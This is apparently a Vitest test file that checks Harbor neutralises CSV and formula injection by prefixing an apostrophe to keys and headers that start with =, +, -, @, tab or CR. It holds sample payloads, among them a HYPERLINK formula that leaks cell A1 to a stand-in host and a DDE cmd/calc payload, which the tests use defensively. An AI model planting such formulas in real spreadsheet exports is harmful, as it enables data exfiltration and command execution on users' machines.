// Text a spreadsheet would run as a formula, where Harbor gives back the sender's own text at the
// start of a value: an unknown field's or column's path (a problem's issues, a `check` answer, a
// batch's manifest) and a cell of a CSV it writes (src/errors.ts spreadsheetSafe; OWASP's "CSV
// Injection" advice). Until 2026-12-06 a CSV header `=HYPERLINK(…)` or a JSON key `@SUM(…)` came
// back as the path as given, so a clinic's export of the problem or the manifest to a spreadsheet
// began a cell with it.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../src/batch/dotpaths.js';
import { spreadsheetSafe } from '../../src/errors.js';
import { harbor } from '../support/cli.js';
import { binary, harness, rfaCase } from './helpers.js';

const dir = mkdtempSync(join(tmpdir(), 'harbor-formula-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

// Each a cell's start OWASP names (=, +, -, @, tab, CR), as a key or a header may begin.
const FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1)', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

describe('a formula-looking key or header comes back prefixed with an apostrophe, where it would start a cell', () => {
  const { agent } = harness();

  it('the rule: OWASP\'s six first characters, and nothing else changed', () => {
    for (const f of FORMULAS) expect(spreadsheetSafe(f), JSON.stringify(f)).toBe(`'${f}`);
    for (const plain of ['child.givenName', '', ' =1', "'=1", 'a=b', '0.5']) expect(spreadsheetSafe(plain)).toBe(plain);
    // A CSV Harbor writes: the same rule, then CSV quoting.
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('@A1,B')).toBe('"\'@A1,B"');
  });

  it('a JSON key: the path of a problem (single route), of a check in the CLI and of a batch manifest entry', async () => {
    for (const f of FORMULAS) {
      const c = { ...rfaCase(), [f]: 'x' };
      const res = await agent.post('/v1/documents/rfa/check').send(c);
      expect(res.status, JSON.stringify(f)).toBe(422);
      const paths = res.body.errors.map((i: { path: string }) => i.path);
      expect(paths, JSON.stringify(f)).toContain(`'${f}`);
      expect(paths.filter((p: string) => /^[=+\-@\t\r]/.test(p)), JSON.stringify(f)).toEqual([]);
    }
    const file = join(dir, 'case.json');
    writeFileSync(file, JSON.stringify({ ...rfaCase(), '=1+1': 'x' }));
    const checked = await harbor(['check', 'rfa', file]);
    expect(JSON.parse(checked.stdout).errors.map((e: { path: string }) => e.path)).toContain("'=1+1");

    const batch = await agent.post('/v1/batches/rfa').send([{ ...rfaCase(), '@SUM(A1:A9)': 'x' }]).buffer(true).parse(binary);
    expect(batch.status).toBe(200);
    const manifest = JSON.parse(strFromU8(unzipSync(new Uint8Array(batch.body))['manifest.json']!));
    expect(manifest.records[0].errors.map((e: { path: string }) => e.path)).toEqual(["'@SUM(A1:A9)"]);
  });

  it('a CSV header: the path of each unknown column, over HTTP and in the CLI; the message quotes the header as given, inside it', async () => {
    const csv = `child.givenName,"=HYPERLINK(""http://example.invalid"")",-2+3\r\nAna,x,y\r\n`;
    const res = await agent.post('/v1/batches/rfa').set('Content-Type', 'text/csv').send(csv);
    expect(res.status).toBe(400);
    expect(res.body.errors.map((i: { path: string }) => i.path)).toEqual(['\'=HYPERLINK("http://example.invalid")', "'-2+3"]);
    expect(res.body.detail).toMatch(/^CSV header: columns "=HYPERLINK\("http:\/\/example\.invalid"\)", "-2\+3" name no field/);
    const file = join(dir, 'cases.csv');
    writeFileSync(file, csv);
    const cli = await harbor(['batch', 'rfa', file, '-o', join(dir, 'never.zip')]);
    expect(cli.status).toBe(1);
    expect(cli.stderr).toContain("'-2+3");
  });
});
